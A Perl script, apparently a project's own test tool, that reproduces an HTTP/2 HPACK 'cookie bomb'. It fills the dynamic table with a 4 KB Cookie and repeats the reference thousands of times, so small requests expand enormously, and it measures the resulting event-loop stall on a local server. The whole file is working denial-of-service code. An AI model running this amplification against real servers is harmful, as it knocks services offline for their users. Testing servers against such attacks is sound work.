#!/usr/bin/perl
# The HTTP/2 "cookie bomb": one HEADERS block whose HPACK dynamic table holds a 4 KB Cookie of 58 sid
# values, then referenced again with one byte per repeat, so that a ~20 KB request carries
# hundreds of thousands of sids. Sends REQUESTS of them (one stream each) over HTTP/2 with prior
# knowledge to a plain listener, and prints how long each took to be answered and how long a
# cheap request on another connection waited meanwhile (the event loop's stall).
#   tools/cookie-bomb.pl [PORT [REQUESTS [REPEATS]]]      e.g. tools/cookie-bomb.pl 8080 3 16000
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(time);

my $port = $ARGV[0] // 8080;
my $requests = $ARGV[1] // 3;
my $repeats = $ARGV[2] // 16000;

sub frame {
    my ($type, $flags, $stream, $payload) = @_;
    return pack('NCN', length($payload) << 8 | $type, $flags, $stream) . $payload;
}

# an HPACK integer with an N-bit prefix, first byte ORed with $mask
sub hint {
    my ($n, $bits, $mask) = @_;
    my $max = (1 << $bits) - 1;
    return chr($mask | $n) if $n < $max;
    my $out = chr($mask | $max);
    $n -= $max;
    while ($n >= 128) { $out .= chr(($n & 127) | 128); $n >>= 7; }
    return $out . chr($n);
}

sub lit { my $s = shift; hint(length $s, 7, 0) . $s }

my $cookie = join '; ', map { sprintf 'sid=%064x', $_ } 1 .. 58; # 4,0xx bytes: fits the 4,096-byte table
my $sock = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port) or die "connect: $!";
binmode $sock;
print $sock "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0, '');

# reads frames until the HEADERS of $stream; returns its :status (h2o sends it first, indexed or as a literal)
sub wait_headers {
    my $stream = shift;
    while (1) {
        my $n = read($sock, my $head, 9) or die "connection closed\n";
        my ($len, $type, $flags, $sid) = (unpack('N', "\0" . substr($head, 0, 3)), unpack('CCN', substr($head, 3)));
        read($sock, my $payload, $len) if $len;
        print $sock frame(4, 1, 0, '') if $type == 4 && !($flags & 1);
        die "GOAWAY\n" if $type == 7;
        next unless $type == 1 && ($sid & 0x7fffffff) == $stream;
        my %indexed = (0x88 => 200, 0x89 => 204, 0x8a => 206, 0x8b => 304, 0x8c => 400, 0x8d => 404, 0x8e => 500);
        return $indexed{ord $payload} // ($payload =~ /\A.\x03(\d{3})/s ? $1 : sprintf('0x%02x', ord $payload));
    }
}

sub probe_latency {
    # one cheap request on its own connection, timed: what any other client waits meanwhile
    my $t = time;
    my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port) or return -1;
    print $s "GET /_status HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    local $/;
    my $r = <$s>;
    return time - $t;
}

for my $i (1 .. $requests) {
    my $stream = 2 * $i - 1;
    my $block = "\x82\x86" . "\x04" . lit('/api/auth/me') . "\x01" . lit('localhost');
    $block .= "\x40" . lit('cookie') . lit($cookie) if $i == 1; # incremental indexing: dynamic entry 62
    $block .= "\xbe" x $repeats;                                # 62, again and again
    my @chunks = unpack('(a16384)*', $block);
    my $t = time;
    print $sock frame(1, @chunks == 1 ? 5 : 1, $stream, shift @chunks);
    print $sock frame(9, @chunks == 1 ? 4 : 0, $stream, shift @chunks) while @chunks;
    my $pid = fork // die;
    if ($pid == 0) { printf "  probe: a cheap request meanwhile waited %.0f ms\n", 1000 * probe_latency(); exit 0 }
    my $status = wait_headers($stream);
    printf "request %d: %d bytes, %d sid values, answered (%s) after %.0f ms\n", $i, length $block,
        58 * ($repeats + ($i == 1)), $status, 1000 * (time - $t);
    waitpid $pid, 0;
}
